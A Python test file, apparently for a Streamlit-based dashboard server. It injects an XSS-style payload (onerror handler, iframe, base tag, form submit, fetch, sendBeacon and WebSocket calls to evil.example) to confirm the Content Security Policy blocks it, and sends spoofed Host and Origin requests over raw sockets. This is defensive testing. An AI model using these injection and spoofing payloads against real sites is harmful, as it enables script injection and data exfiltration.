"""The server as ./run starts it, seen by a browser and by bare sockets: headers, foreign names, counts, the log."""

from __future__ import annotations

import json
import socket

import pytest
from playwright.sync_api import Browser

from tests.browser.conftest import Opener
from tests.browser.server import Server
from tests.browser.window import window

VIOLATIONS = """
window.refused = [];
document.addEventListener('securitypolicyviolation', event => window.refused.push(event.effectiveDirective));
"""
INJECTED = """async () => {
    const box = document.createElement('div');
    box.innerHTML = '<img src="https://evil.example/a.png"><img src=x onerror="window.ran = true">'
        + '<iframe src="https://evil.example"></iframe><object data="https://evil.example/o"></object>'
        + '<base href="https://evil.example/"><form action="https://evil.example"></form>';
    document.body.append(box);
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(script);
    box.querySelector('form').submit();
    await fetch('https://evil.example/', {mode: 'no-cors'}).catch(() => 0);
    try { new WebSocket('wss://evil.example/'); } catch { }
    // Later, because what a test tool evaluates may evaluate too while it lasts.
    setTimeout(() => { try { eval('window.ran = true'); } catch { } }, 10);
    navigator.sendBeacon('https://evil.example/', 'x');
    await new Promise(done => setTimeout(done, 300));
    return [window.ran === true, [...new Set(window.refused)].sort()];
}"""


def said(server: Server, request: str) -> str:
    """What the server answers to these bytes; everything until it hangs up, or the first piece of a socket."""
    with socket.create_connection(("localhost", server.port), timeout=10) as plain:
        plain.sendall(request.replace("\n", "\r\n").encode())
        parts = [plain.recv(65_536)]
        while "\nUpgrade:" not in request and (part := plain.recv(65_536)):
            parts.append(part)
    return b"".join(parts).decode("utf8", errors="replace")


def opening(host: str, origin: str) -> str:
    return (
        f"GET /_stcore/stream HTTP/1.1\nHost: {host}\nOrigin: {origin}\nUpgrade: websocket\nConnection: Upgrade\n"
        "Sec-WebSocket-Version: 13\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\nSec-WebSocket-Protocol: streamlit\n\n"
    )


def test_what_is_slipped_into_a_page_runs_nothing_and_calls_nobody(browser: Browser, server: Server) -> None:
    with window(browser, server.address) as stranger:  # a tab that nobody has after this
        stranger.page.add_init_script(VIOLATIONS)
        stranger.open("overview")
        assert stranger.page.evaluate("window.refused") == [], "our own page needs nothing that is forbidden"
        ran, refused = stranger.page.evaluate(INJECTED)
        assert not ran
        assert {"connect-src", "img-src", "base-uri", "script-src-attr", "script-src-elem"} <= set(refused)
        assert stranger.page.url.startswith(stranger.address), "the form led nowhere"
        # Chromium names what it was asked for and refused; nothing of it left the browser.
        assert all("evil.example" in url for url in stranger.foreign)


def test_foreign_names_and_pages_are_refused_on_the_wire(server: Server) -> None:
    ours = f"localhost:{server.port}"
    assert said(server, opening(ours, f"http://{ours}")).startswith("HTTP/1.1 101")
    for host, origin in (("evil.example", "http://evil.example"), (ours, "http://evil.example"), (ours, "null")):
        assert said(server, opening(host, origin)).startswith("HTTP/1.1 403"), (host, origin)
    for path in ("/", "/app/static/icon.png", "/_stcore/health"):
        answer = said(server, f"GET {path} HTTP/1.1\nHost: evil.example\nConnection: close\n\n")
        assert answer.startswith("HTTP/1.1 421") and "frame-ancestors 'none'" in answer
    agent = said(server, f"GET /_stcore/agent/openapi.json HTTP/1.1\nHost: {ours}\nConnection: close\n\n")
    assert agent.startswith("HTTP/1.1 404")


@pytest.mark.parametrize("path", ["/", "/kpis", "/app/static/icon.png", "/static/nothing.js", "/readyz", "/%2e%2e/x"])
def test_every_answer_has_the_headers_and_none_says_what_serves(server: Server, path: str) -> None:
    answer = said(server, f"GET {path} HTTP/1.1\nHost: localhost:{server.port}\nConnection: close\n\n").lower()
    for name in ("content-security-policy", "x-content-type-options", "referrer-policy", "permissions-policy"):
        assert answer.count(f"\n{name}:") == 1, (path, name)
    assert "\nserver:" not in answer


def test_the_server_is_ready_counts_and_logs_lines_of_json(server: Server, opened: Opener) -> None:
    with opened() as reader:
        reader.open("kpis")
        asked = f"GET /metrics HTTP/1.1\nHost: localhost:{server.port}\nConnection: close\n"
        counts = dict(line.rsplit(" ", 1) for line in said(server, asked + "\n").splitlines() if line[:1].islower())
        assert float(counts["sidu_sessions"]) >= 1 and float(counts["sidu_rerun_seconds_count"]) >= 1
        assert counts["sidu_ready"] == "1" and float(counts["sidu_answers_kept"]) >= 1
        assert said(server, asked + "X-Forwarded-For: 127.0.0.1\n\n").startswith("HTTP/1.1 403")
    lines = [json.loads(line) for line in server.written().splitlines()]
    assert lines[0]["message"] == f"serving localhost:{server.port}"
    assert all({"at", "level", "logger", "code", "message"} <= set(line) for line in lines)
